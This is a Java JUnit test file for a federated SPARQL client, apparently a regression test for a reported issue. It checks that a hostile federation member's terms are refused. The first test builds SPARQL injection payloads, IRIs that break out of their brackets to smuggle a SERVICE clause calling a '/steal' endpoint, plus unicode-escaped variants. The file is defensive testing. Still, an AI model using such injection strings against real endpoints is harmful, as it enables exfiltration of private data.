package dev.ldf.client.hostile;

import java.net.InetSocketAddress;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;

import com.sun.net.httpserver.HttpServer;
import org.apache.jena.query.Query;
import org.apache.jena.query.QueryExecution;
import org.apache.jena.query.QueryFactory;
import org.apache.jena.query.ResultSetFormatter;
import org.apache.jena.rdf.model.Model;
import org.apache.jena.rdf.model.ModelFactory;
import org.apache.jena.rdf.model.ResourceFactory;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

import dev.ldf.client.ClientOptions;
import dev.ldf.client.http.ClientListener;
import dev.ldf.client.http.FragmentException;
import dev.ldf.client.jena.FragmentDataset;
import dev.ldf.client.source.Federation;
import dev.ldf.client.testing.SparqlTestEndpoint;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Issue 47, items 8 and 12: a hostile member of a federation of SPARQL endpoints. Its terms are
 * refused where they arrive, with one clear error naming it, so that none reaches the query the
 * client sends to another member: the victim endpoint (Jena's own, which runs SERVICE clauses)
 * never sees the injected clause, and the attacker's endpoint is never called.
 */
@Tag("server")
class HostileSourcesTest {

    private static final String QUERY = "SELECT * WHERE { ?s <http://ex.org/p> ?o . ?o <http://ex.org/q> ?z }";

    @Test
    void anIriThatBreaksOutOfItsBracketsNeverReachesAnotherEndpoint() throws Exception {
        AtomicInteger attacked = new AtomicInteger();
        HttpServer attacker = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        attacker.createContext("/", exchange -> {
            attacked.incrementAndGet();
            exchange.sendResponseHeaders(500, -1);
            exchange.close();
        });
        attacker.start();
        String escape = "http://evil.example/x> } SERVICE <http://127.0.0.1:" + attacker.getAddress().getPort()
                + "/steal> { ?a ?b ?c } #";
        Model victimData = ModelFactory.createDefaultModel();
        victimData.add(ResourceFactory.createResource("http://ex.org/secret"), ResourceFactory.createProperty("http://ex.org/q"),
                "private");
        try (SparqlTestEndpoint victim = new SparqlTestEndpoint(victimData)) {
            String[][] payloads = {
                // SELECT answers in JSON: the IRI verbatim; CONSTRUCT answers in N-Triples: the same by \\u escapes.
                {"{\"type\":\"uri\",\"value\":\"" + escape + "\"}", "<" + escape.replace(">", "\\u003E").replace(" ", "\\u0020")
                        .replace("{", "\\u007B").replace("}", "\\u007D").replace("<", "\\u003C") + ">"},
                {"{\"type\":\"literal\",\"value\":\"x\",\"datatype\":\"" + escape + "\"}", "\"x\"^^<http://ex.org/d\\u003E>"},
                {"{\"type\":\"uri\",\"value\":\"relative/iri\"}", "<relative/iri>"},
            };
            for (String[] payload : payloads) {
                try (HostileSparqlEndpoint hostile = new HostileSparqlEndpoint(payload[0], payload[1], q -> "{\"type\":"
                        + "\"literal\",\"value\":\"3\",\"datatype\":\"http://www.w3.org/2001/XMLSchema#integer\"}")) {
                    FragmentException refused = assertThrows(FragmentException.class, () -> run(hostile.url(), victim.url()));
                    assertTrue(refused.getMessage().contains(hostile.url()), refused.getMessage());
                    assertTrue(refused.getMessage().contains("the client refuses"), refused.getMessage());
                }
            }
            for (String query : victim.queries()) {
                assertTrue(!query.contains("SERVICE") && !query.contains("evil.example") && !query.contains("relative/iri"),
                        "the victim received: " + query);
            }
        } finally {
            attacker.stop(0);
        }
        assertEquals(0, attacked.get(), "the attacker's endpoint was called");
    }

    @Test
    void aCountThatIsNoCountIsOneClearErrorNamingTheSource() throws Exception {
        String[] answers = {
            "{\"type\":\"uri\",\"value\":\"http://ex.org/not-a-number\"}",
            "{\"type\":\"literal\",\"value\":\"many\"}",
            "{\"type\":\"literal\",\"value\":\"-4\",\"datatype\":\"http://www.w3.org/2001/XMLSchema#integer\"}",
        };
        for (String answer : answers) {
            try (HostileSparqlEndpoint hostile = new HostileSparqlEndpoint("{\"type\":\"uri\",\"value\":\"http://ex.org/o\"}",
                    "<http://ex.org/o>", q -> answer)) {
                FragmentException refused = assertThrows(FragmentException.class, () -> run(hostile.url()));
                assertTrue(refused.getMessage().contains(hostile.url()), refused.getMessage());
                assertTrue(refused.getMessage().contains("answered a COUNT with"), refused.getMessage());
            }
        }
    }

    private static void run(String... endpoints) {
        List<String> sources = Arrays.stream(endpoints).map(url -> "sparql@" + url).toList();
        try (Federation federation = Federation.connect(sources, ClientOptions.defaults(), new ClientListener() {})) {
            Query query = QueryFactory.create(QUERY);
            try (QueryExecution execution = QueryExecution.create(query, FragmentDataset.of(federation))) {
                ResultSetFormatter.consume(execution.execSelect());
            }
        }
    }
}
